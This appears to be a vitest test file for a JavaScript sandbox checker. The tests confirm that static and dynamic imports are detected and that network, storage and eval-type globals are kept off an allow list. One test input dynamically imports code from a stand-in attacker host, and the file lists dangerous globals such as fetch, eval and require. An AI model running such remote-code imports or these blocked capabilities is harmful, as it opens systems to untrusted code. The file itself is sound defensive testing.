import { describe, expect, it } from 'vitest';
import { importProblem, SANDBOX_GLOBALS } from './sandbox.ts';

describe('importProblem', () => {
  it('finds static and dynamic imports and import.meta, with their line', () => {
    expect(importProblem('export function beforeCompact() {}')).toBeUndefined();
    expect(importProblem('const important = 1;\nexport const reimported = important;')).toBeUndefined();
    expect(importProblem('// x\nimport fs from "node:fs";')?.line).toBe(2);
    expect(importProblem('export async function f() {\n\n  return import("https://attacker.example/x.js");\n}')?.line).toBe(3);
    expect(importProblem('export const u = import.meta.url;')?.line).toBe(1);
    expect(importProblem('export const f = () => import ("x")')?.message).toMatch(/may not load other modules or reach the network/);
  });

  it('keeps no network, storage, host or code-from-strings global on the list', () => {
    for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'caches', 'navigator', 'Worker', 'SharedWorker', 'WebTransport', 'FontFace', 'fonts', 'Blob', 'self', 'postMessage', 'process', 'require', 'Buffer', 'eval', 'Function', 'WebAssembly']) {
      expect(SANDBOX_GLOBALS.has(name), name).toBe(false);
    }
  });
});
